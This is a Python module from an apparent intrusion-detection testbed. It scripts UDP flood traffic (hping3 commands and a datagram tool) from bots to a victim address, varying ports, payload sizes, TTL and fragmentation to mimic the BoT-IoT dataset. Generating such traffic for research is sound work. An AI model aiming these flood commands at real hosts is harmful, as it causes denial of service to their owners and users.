"""UDP floods, to open ports and to closed ones, which answer with ICMP. BoT-IoT's is `empty`."""

from testbed.network import python_module
from testbed.orders import Draw, Kind, Order
from testbed.services import UDP_SINK_PORTS

SUBCATEGORIES = {"DoS_UDP": (1, 1), "DDoS_UDP": (2, 4)}
CLOSED_PORTS = (7, 1900, 9999, 27015, 33434)


def _hping3(draw: Draw, sizes: tuple[int, ...]) -> list[Order]:
    rng = draw.rng
    victim, data, count = draw.victim(), rng.choice(sizes), draw.each()
    port = rng.choice((*UDP_SINK_PORTS, *CLOSED_PORTS))
    options = ["-p", f"{port}", "-i", f"u{draw.pause_us()}", "-c", f"{count}"]
    if data:
        options += ["-d", f"{data}"]
    if ttl := rng.choice((None, None, 60, 128, 255)):
        options += ["-t", f"{ttl}"]
    if rng.random() < 0.3:
        options += ["-k"]
    return [
        Order(
            bot,
            ["hping3", "-q", "-n", "--udp", *options, "-s",
             f"{draw.first_port(count, data > 0)}", victim.address],
        )
        for bot in draw.bots
    ]  # fmt: skip


def empty(draw: Draw) -> list[Order]:
    """Datagrams without data, as in BoT-IoT."""
    return _hping3(draw, (0,))


def sized(draw: Draw) -> list[Order]:
    """Datagrams of one size."""
    return _hping3(draw, (1, 8, 18, 48, 64, 120, 200, 400, 512, 1024, 1400))


def _datagrams(draw: Draw, ports: tuple[int, ...], low: int, high: int) -> list[Order]:
    rng = draw.rng
    victim = draw.victim()
    return [
        Order(
            bot,
            python_module("tools.datagrams", victim.address, ",".join(map(str, ports)),
                          f"{draw.each()}", f"{draw.pause_us() / 1e6:.6f}", f"{low}", f"{high}",
                          f"{rng.randrange(10**6)}"),
        )
        for bot in draw.bots
    ]  # fmt: skip


def varied(draw: Draw) -> list[Order]:
    """Datagrams of any size in a range, to one port, with text."""
    low = draw.rng.choice((0, 0, 20, 100, 400))
    high = draw.rng.choice((150, 300, 800, 1400))
    port = draw.rng.choice((*UDP_SINK_PORTS, *CLOSED_PORTS))
    return _datagrams(draw, (port,), min(low, high), high)


def many_ports(draw: Draw) -> list[Order]:
    """Datagrams to many ports, open and closed."""
    ports = tuple(sorted(draw.rng.sample(range(20_000, 30_000), 40)))
    return _datagrams(draw, (*ports, *UDP_SINK_PORTS), 0, draw.rng.choice((60, 300, 1000)))


def fragmented(draw: Draw) -> list[Order]:
    """Datagrams larger than a frame, in IPv4 fragments."""
    return _datagrams(draw, (draw.rng.choice(UDP_SINK_PORTS),), 1_600, 4_000)


KINDS: dict[str, Kind] = {
    "empty": empty, "sized": sized, "varied": varied, "many_ports": many_ports,
}  # fmt: skip
NOVEL: dict[str, Kind] = {"fragmented": fragmented}
